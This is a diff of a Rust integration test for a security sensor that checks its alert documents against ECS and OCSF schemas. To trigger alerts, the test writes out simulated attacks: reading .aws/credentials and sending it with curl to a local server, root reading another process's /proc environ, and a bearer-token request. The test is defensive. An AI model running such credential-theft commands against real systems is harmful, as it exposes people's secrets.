@@ -6,16 +6,16 @@
 
 use std::{
     collections::{BTreeMap, BTreeSet},
-    io::{BufRead as _, BufReader},
     path::{Path, PathBuf},
-    process::{Child, Command, Stdio},
     time::Duration,
 };
 
 use base64::{Engine as _, engine::general_purpose::URL_SAFE_NO_PAD};
 use jsonschema::Validator;
 use serde_json::Value;
-use tests::{Planted, Sensor, TempDir, is_action, is_alert, kernel_tests_enabled, sh, users::TestUser};
+use tests::{
+    Planted, Sensor, TempDir, http_server, is_action, is_alert, kernel_tests_enabled, sh, users::TestUser,
+};
 
 const WAIT: Duration = Duration::from_secs(20);
 const AWS_SECRET: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
@@ -72,29 +72,6 @@ fn lines(path: &Path) -> Vec<Value> {
         .collect()
 }
 
-struct Server(Child, u16);
-
-impl Drop for Server {
-    fn drop(&mut self) {
-        let _ = self.0.kill();
-        let _ = self.0.wait();
-    }
-}
-
-fn http_server() -> Server {
-    let mut child = Command::new("python3")
-        .args([
-            "-c",
-            "import http.server as h\nclass H(h.BaseHTTPRequestHandler):\n    def do_POST(self):\n        self.rfile.read(int(self.headers.get('Content-Length') or 0)); self.send_response(200); self.send_header('Content-Length', '0'); self.end_headers()\n    do_GET = do_POST\n    def log_message(self, *a): pass\ns = h.ThreadingHTTPServer(('127.0.0.1', 0), H)\nprint(s.server_address[1], flush=True)\ns.serve_forever()",
-        ])
-        .stdout(Stdio::piped())
-        .spawn()
-        .expect("server");
-    let mut line = String::new();
-    BufReader::new(child.stdout.take().expect("stdout")).read_line(&mut line).expect("port");
-    Server(child, line.trim().parse().expect("port"))
-}
-
 fn jwt(sub: &str) -> String {
     let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).expect("clock").as_secs();
     let h = URL_SAFE_NO_PAD.encode(r#"{"alg":"RS256","typ":"JWT"}"#);
@@ -103,11 +80,6 @@ fn jwt(sub: &str) -> String {
         now + 600
     ));
     format!("{h}.{c}.{}", URL_SAFE_NO_PAD.encode(format!("signature-of-{sub}-0123456789")))
-}
-
-fn run_as(user: &TestUser, script: &str) {
-    let out = user.sh(script).output().expect("run");
-    assert!(out.status.success(), "`{script}`: {}", String::from_utf8_lossy(&out.stderr));
 }
 
 /// `(event.kind, event.action)` of an ECS document.
@@ -151,20 +123,17 @@ fn every_document_kind_validates_against_the_ecs_and_ocsf_schemas() {
     sensor.wait_for("sensor-started", WAIT, |d| is_action(d, "sensor-started"));
 
     // An allowed open (the default pack allows kubectl for kube config): an event.
-    run_as(&user, &format!("{} {} >/dev/null", planted.path.display(), kube.display()));
+    user.run(&format!("{} {} >/dev/null", planted.path.display(), kube.display()));
     // An open alert, and exec events for every program here.
-    run_as(&user, &format!("cat {} >/dev/null", store.display()));
+    user.run(&format!("cat {} >/dev/null", store.display()));
     // A request carrying a bearer token: connect and credential-use events.
     let token = jwt("schemas");
     sh(&format!("curl -s -H 'Authorization: Bearer {token}' http://127.0.0.1:{}/api -o /dev/null", srv.1));
     // Store read then sent by the same lineage: a network (exfiltration) alert.
-    run_as(
-        &user,
-        &format!(
-            "T=$(cat .aws/credentials); curl -s -d \"$T\" http://127.0.0.1:{}/upload -o /dev/null",
-            srv.1
-        ),
-    );
+    user.run(&format!(
+        "T=$(cat .aws/credentials); curl -s -d \"$T\" http://127.0.0.1:{}/upload -o /dev/null",
+        srv.1
+    ));
     // Root reading another user's process environment: a session alert.
     sh(&format!("cat /proc/{victim}/environ > /dev/null"));
     // Root taking the user's persistent keyring: a syscall-based session alert.
